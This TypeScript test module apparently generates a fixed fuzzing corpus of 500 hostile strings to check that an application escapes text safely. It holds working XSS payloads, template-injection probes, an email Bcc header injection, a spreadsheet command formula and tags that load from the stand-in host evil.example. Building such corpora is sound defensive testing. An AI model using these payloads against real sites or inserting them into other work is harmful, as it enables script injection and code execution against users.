import { randomOf } from '#tests/sim/random.ts';

/** How many strings: each is another way by which a text could become more than a text. */
export const CORPUS_SIZE = 500;
/** Short enough for a name's field. */
const LONGEST = 90;

const RUNS = [
  'alert(1)',
  'confirm`1`',
  "top['al'+'ert'](1)",
  'window.__ran=1',
  "(0,eval)('__ran=1')",
  'import(`data:text/javascript,__ran=1`)',
] as const;
const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onpointerover',
  'onanimationstart',
  'onclick',
  'onbegin',
] as const;
const TAGS = [
  'img',
  'svg',
  'video',
  'details',
  'input',
  'body',
  'iframe',
  'marquee',
  'object',
  'x-card',
  'math',
  'select',
] as const;
const GAPS = [' ', '/', '\t', '\n', ' / ', '\u00a0'] as const;
const LEAVES = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '</textarea>',
  '</title>',
  '</script>',
  '</style>',
  '</p></main>',
  '\\">',
] as const;
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  'vbscript:',
] as const;
const STRANGE = [
  '\u202e',
  '\u2066',
  '\u200f',
  '\ufeff',
  '\u2028',
  '\u0000',
  '\ud83d',
  '\u0301'.repeat(9),
  '\u{1f469}\u200d\u{1f4bb}',
] as const;
const FILLED = [
  '{{7*7}}',
  `${'$'}{7*7}`,
  '<%= 7*7 %>',
  '#{7*7}',
  '{{constructor.constructor("alert(1)")()}}',
  '$t(common:action.back)',
  '{{amount}}',
  `[[${'$'}{7}]]`,
] as const;
const OTHERS = [
  '\r\nBcc: a@evil.example',
  '=cmd|" /c calc"!A1',
  '<!--',
  '<![CDATA[',
  '&lt;script&gt;',
  '%3Cscript%3E',
  '\uff1cscript\uff1e',
  '<>',
] as const;

type Pick = <T>(items: readonly T[]) => T;
type Form = (pick: Pick) => string;

const cased = (text: string, pick: Pick) =>
  pick([text, text.toUpperCase(), text.replace(/[aeiou]/g, (vowel) => vowel.toUpperCase())]);
const quoted = (text: string, pick: Pick) => pick([text, `"${text}"`, `'${text}'`]);

/** The sentences of the grammar, each by the part of a page that it tries to leave or to become. */
const FORMS: readonly Form[] = [
  (pick) =>
    `${pick(LEAVES)}<${cased('script', pick)}${pick(['', ' x', '/x', ' src=//evil.example '])}>${pick(RUNS)}</script>`,
  (pick) => `${pick(LEAVES)}<${cased(pick(TAGS), pick)}${pick(GAPS)}${pick(EVENTS)}=${quoted(pick(RUNS), pick)}>`,
  (pick) =>
    `${pick(LEAVES)}<${pick(TAGS)} src=x${pick(GAPS)}${cased(pick(EVENTS), pick)}=${quoted(pick(RUNS), pick)}${pick(['', '//', '/>'])}`,
  (pick) =>
    `${pick(['"', "'", '`', '" ', "' "])}${pick(EVENTS)}=${quoted(pick(RUNS), pick)} ${pick(['autofocus', 'x="', "x='", ''])}`,
  (pick) =>
    `${pick(LEAVES)}<svg><${pick(['animate', 'set', 'script', 'use'])} ${pick(['attributeName=href', 'onbegin'])}=${pick(RUNS)}>`,
  (pick) => `${pick(SCHEMES)}${pick(RUNS)}`,
  (pick) => `${pick(LEAVES)}<a href=${quoted(`${pick(SCHEMES)}${pick(RUNS)}`, pick)}>x`,
  (pick) =>
    `${pick(LEAVES)}<${pick(['base href', 'form action', 'iframe src', 'embed src', 'link rel=import href'])}=${pick(['//evil.example', 'data:text/html,<script>__ran=1</script>'])}>`,
  (pick) =>
    `${pick(LEAVES)}<style>@import"//evil.example";*{${pick(['background:url(//evil.example)', 'x:expression(alert(1))'])}}</style>`,
  (pick) =>
    `${pick(LEAVES)}<meta http-equiv=${pick(['refresh', 'set-cookie'])} content="0;url=${pick(SCHEMES)}${pick(RUNS)}">`,
  (pick) => `${pick(STRANGE)}${pick(LEAVES)}<${pick(TAGS)} ${pick(EVENTS)}=${pick(RUNS)}>${pick(STRANGE)}`,
  (pick) => `${pick(FILLED)}${pick(STRANGE)}${pick(FILLED)}`,
  (pick) => `${pick(OTHERS)}${pick(LEAVES)}${pick(RUNS)}`,
  (pick) =>
    `<${pick(['scr', 'SCR'])}${pick(['\u0000', '<script>', '\u200b'])}ipt>${pick(RUNS)}</scr${pick(['ipt', 'IPT '])}>`,
  (pick) =>
    `${pick(['<noscript>', '<template>', '<xmp>', '<plaintext>', '<title>', '<math><mtext>'])}</${pick(['noscript', 'p', 'title', 'xmp'])}><img src=x onerror=${pick(RUNS)}>`,
];

/** The strings, the same each time: made from the grammar above, one form after the other, without doubles. */
export function makeCorpus(size = CORPUS_SIZE): string[] {
  const random = randomOf(16, 500);
  const made = new Set<string>();
  for (let turn = 0; made.size < size; turn += 1) {
    const form = FORMS[turn % FORMS.length];
    const text = form?.(random.pick) ?? '';
    if (text !== '' && text.length <= LONGEST) made.add(text);
  }
  return [...made];
}
